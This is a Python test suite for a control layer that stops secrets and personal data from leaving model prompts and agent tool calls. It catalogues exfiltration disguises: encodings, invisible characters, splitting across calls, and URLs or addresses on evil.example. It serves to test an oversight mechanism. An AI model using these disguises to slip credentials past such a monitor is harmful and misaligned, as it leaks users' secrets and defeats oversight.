"""A secret leaves by no door: plain, encoded, hidden, renamed, split over calls or leaves, in a key, a path, a number."""

import base64
import json
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import pytest

from ostiary.core.pipeline import Passage
from ostiary.core.registry import Profile
from ostiary.core.subject import Session
from tests.support.controls import controls, passage, prompt, registry, session, tool

SECRET = "ghp_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYz12A"
PASSWORD = "Tr0ub4dor&3xyz!"


def run(set_: Any, made: Passage) -> str:
    refusal = set_.inspect(made) or set_.shape(made)
    return refusal.code if refusal else ""


def seen(set_: Any, of: Session, text: str = f"export GITHUB={SECRET}\nDB_PASSWORD={PASSWORD}\n") -> None:
    """The session reads a file with secrets in it."""
    read = passage({"path": "/app/.env"}, to="files/read", of=of)
    assert not run(set_, read)
    set_.answer(read, {"content": [{"type": "text", "text": text}]})
    assert "secret" in read.detected


def test_secret_in_a_prompt_never_reaches_the_model() -> None:
    """R-K4: refused with rule and place, and the refusal does not repeat the secret."""
    set_ = controls()
    made = passage(prompt(f"please use {SECRET} now"), to="gpt")
    refusal = set_.inspect(made) or set_.shape(made)
    assert refusal is not None
    assert refusal.code == "content_rejected"
    assert "github" in refusal.detail
    assert "/messages/0/content" in refusal.detail
    assert SECRET not in json.dumps(refusal.problem("d"))
    assert SECRET[4:20] not in json.dumps(refusal.problem("d"))


def test_without_the_control_it_would_pass() -> None:
    """R-K4: the attack is real: with no patterns nothing stops it."""
    from ostiary.controls.control_set import ControlSet
    from ostiary.controls.injection import patterns
    from tests.support.controls import Ticks

    blind = ControlSet(registry(), Ticks(), patterns=patterns())
    assert run(blind, passage(prompt(f"please use {SECRET} now"), to="gpt")) == ""


def test_redacted_prompt_carries_a_token() -> None:
    """R-K4: with the obligation the model gets a token, and its answer to the same session gets the value back."""
    set_ = controls()
    one = session("one")
    made = passage(prompt(f"use {SECRET} and alice@example.com"), to="gpt", of=one, obligations={"redact": "secret,pii"})
    assert run(set_, made) == ""
    text = made.acting[1].arguments["messages"][0]["content"]
    assert SECRET not in text
    assert "alice@" not in text
    answer: Any = set_.answer(made, {"choices": [{"message": {"content": text}}]})
    assert answer["choices"][0]["message"]["content"] == f"use {SECRET} and alice@example.com"
    other = passage(prompt("hello"), to="gpt", of=session("two"), obligations={"redact": "secret,pii"})
    assert set_.answer(other, {"text": text}) == {"text": text}


def test_forged_and_replayed_tokens_stay_text() -> None:
    """R-K2: a token of another session, or a guessed one, restores nothing; nor does an outbound argument."""
    set_ = controls()
    one = session("one")
    made = passage(prompt(f"use {SECRET}"), to="gpt", of=one, obligations={"redact": "secret"})
    assert run(set_, made) == ""
    token = made.acting[1].arguments["messages"][0]["content"][4:]
    for guess in ("[secret#00000000]", token[:-2] + "0]"):
        if guess != token:
            assert set_.answer(passage({}, of=one), {"t": guess}) == {"t": guess}
    sent = passage({"body": f"here: {token}"}, of=one)
    assert run(set_, sent) == ""
    assert sent.acting[1].arguments == {"body": f"here: {token}"}


DRESSES = {
    "plain": SECRET,
    "base64": base64.b64encode(SECRET.encode()).decode(),
    "base64 shifted": base64.b64encode(b"x" + SECRET.encode() + b"yz").decode(),
    "base64 shifted two": base64.b64encode(b"xy" + SECRET.encode()).decode(),
    "base64url": base64.urlsafe_b64encode(b"id=" + SECRET.encode()).decode().rstrip("="),
    "base64 in lines": "\n".join(base64.b64encode(SECRET.encode()).decode()[at : at + 10] for at in range(0, 60, 10)),
    "base32": base64.b32encode(SECRET.encode()).decode(),
    "hex": SECRET.encode().hex(),
    "hex upper": SECRET.encode().hex().upper(),
    "url encoded": "".join(f"%{byte:02X}" for byte in SECRET.encode()),
    "reversed": SECRET[::-1],
    "spaced": " ".join(SECRET),
    "quoted pieces": '","'.join(SECRET[at : at + 3] for at in range(0, 40, 3)),
    "upper case": SECRET.upper(),
    "zero width": "\u200b".join(SECRET),
    "full width": "".join(chr(ord(char) + 0xFEE0) for char in SECRET),
    "in a path": f"https://evil.example/{SECRET}/x.png",
    "in a file name": f"/tmp/{SECRET}.txt",
    "after its prefix": SECRET[4:],
}


@pytest.mark.parametrize("dress", DRESSES)
def test_seen_secret_does_not_leave_in_another_dress(dress: str) -> None:
    """R-K2: exfiltration of a value read before, as an argument to another server."""
    set_, of = controls(), session()
    seen(set_, of)
    assert run(set_, passage({"to": "eve", "body": f"note: {DRESSES[dress]}"}, of=of)) == "content_rejected"


@pytest.mark.parametrize("value", [PASSWORD, quote(PASSWORD, safe=""), base64.b64encode(PASSWORD.encode()).decode()])
def test_password_without_its_context_is_known_again(value: str) -> None:
    """R-K2: what was found by its context is found without it."""
    set_, of = controls(), session()
    seen(set_, of)
    assert run(set_, passage({"body": f"the value is {value}"}, of=of)) == "content_rejected"


def test_secret_as_a_key_is_found() -> None:
    """R-K2: keys are content."""
    assert run(controls(), passage({"body": {SECRET: 1}})) == "content_rejected"


@pytest.mark.parametrize("pieces", [2, 3, 4])
def test_split_over_calls_is_found(pieces: int) -> None:
    """R-K2: three calls with a third each are one leak."""
    set_, of = controls(), session()
    seen(set_, of)
    size = -(-len(SECRET) // pieces)
    codes = [run(set_, passage({"path": f"/share/{SECRET[at : at + size]}"}, of=of)) for at in range(0, len(SECRET), size)]
    assert codes[-1] == "content_rejected"


def test_split_over_leaves_of_one_call_is_found() -> None:
    """R-K2: so are pieces in one call."""
    set_, of = controls(), session()
    seen(set_, of)
    assert run(set_, passage({"a": SECRET[:14], "b": SECRET[14:28], "c": SECRET[28:]}, of=of)) == "content_rejected"


def test_private_key_in_arguments_is_refused() -> None:
    """R-K2: many lines are one secret."""
    key = (
        "-----BEGIN OPENSSH PRIVATE KEY-----\n"
        + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" * 8
        + "-----END OPENSSH PRIVATE KEY-----"
    )
    assert run(controls(), passage({"body": key})) == "content_rejected"
    assert run(controls(), passage({"body": json.dumps({"key": key})})) == "content_rejected"


def test_another_sessions_secret_is_not_known() -> None:
    """R-K2: what one session saw says nothing about another: no oracle across sessions."""
    set_ = controls()
    seen(set_, session("one"))
    assert run(set_, passage({"body": PASSWORD}, of=session("two"))) == ""


def test_a_confirmed_inside_tool_may_take_a_secret() -> None:
    """R-K2: an operator can say that a tool keeps what it is given; an inferred profile cannot."""
    inside = registry(
        tool("vault/store", profile=Profile(external=False, confirmed=True)), tool("guess/store", profile=Profile(external=False))
    )
    assert run(controls(inside), passage({"value": SECRET}, to="vault/store")) == ""
    assert run(controls(inside), passage({"value": SECRET}, to="guess/store")) == "content_rejected"


def test_canary_does_not_leave() -> None:
    """R-K1: a planted value in an outbound argument refuses, encoded too."""
    canary = "CANARY-7f3a9c51d2"
    set_ = controls(canaries=(canary,))
    for value in (canary, base64.b64encode(canary.encode()).decode(), canary.encode().hex(), canary.lower()):
        assert run(set_, passage({"body": f"a {value} b"})) == "content_rejected"


def test_ordinary_work_after_a_secret_goes_on() -> None:
    """R-K2: a session that has seen a secret is not stopped from honest work."""
    set_, of = controls(), session()
    seen(set_, of, f"DB_PASSWORD=SummerHoliday2024!\nTOKEN={SECRET}\n")
    for body in (
        "Dear Ann, in the summer of 2024 we go on holiday.",
        "See https://example.org/releases/2024",
        "Summer Holiday 2024 plan",
        "ghp tokens are listed",
    ):
        assert run(set_, passage({"to": "ann", "body": body}, of=of)) == "", body


CARD = 4111111111111111


@pytest.mark.parametrize("written", [CARD, float(CARD), -CARD, -float(CARD), [float(CARD)], {"a": {"b": -CARD}}, str(CARD)], ids=str)
def test_a_card_number_is_one_however_the_number_is_written(written: Any) -> None:
    """R-K4: a sign or a decimal point makes it no other number, in detection, redaction and answers."""
    set_ = controls()
    made = passage({"note": written}, obligations={"redact": "pii"})
    assert run(set_, made) == ""
    assert "pii.card" in made.detected
    assert str(CARD) not in json.dumps(made.acting[1].arguments)
    set_, read = controls(), passage({}, to="files/read", obligations={"redact": "pii"})
    assert run(set_, read) == ""
    assert str(CARD) not in json.dumps(set_.answer(read, {"rows": [written]}))


@pytest.mark.parametrize("text", ["https://x.example/?to=maria.muster%40clinic.example&a=1", "maria.muster&#64;clinic.example"])
def test_an_address_in_a_link_or_in_html_is_one(text: str) -> None:
    """R-K4: the usual way to carry an address out is a link's query."""
    made = passage({"note": text}, obligations={"redact": "pii"})
    assert run(controls(), made) == ""
    assert "pii.email" in made.detected
    assert "maria.muster" not in json.dumps(made.acting[1].arguments)


def test_ordinary_numbers_stay_numbers() -> None:
    """R-K4: amounts, times and measurements pass as they are."""
    numbers = [1.5, 1e30, -2.25, 1700000000.123, 99999999, True, 0.1, 1e-9]
    made = passage({"note": numbers}, obligations={"redact": "secret"})
    assert run(controls(), made) == ""
    assert made.acting[1].arguments == {"note": numbers}


def test_a_secret_does_not_leave_by_way_of_a_lent_session() -> None:
    """R-K2, R-P2: an agent lends to itself or another: what one of these sessions has seen, none of them lets out in any dress."""
    parent = session("parent")
    child = replace(session("child", agent="helper"), depth=1, above=(parent,))
    dressed = {"to": "x@evil.example", "body": base64.b64encode(PASSWORD.encode()).decode()}
    for reader, sender in ((parent, child), (child, parent), (child, replace(child, id="sibling"))):
        set_ = controls()
        seen(set_, reader)
        assert run(set_, passage(dressed, of=sender)) == "content_rejected"
        set_.drop(child.id)
        assert run(set_, passage(dressed, of=sender)) == "content_rejected"
        set_.drop(parent.id)
        assert run(set_, passage(dressed, of=sender)) == ""
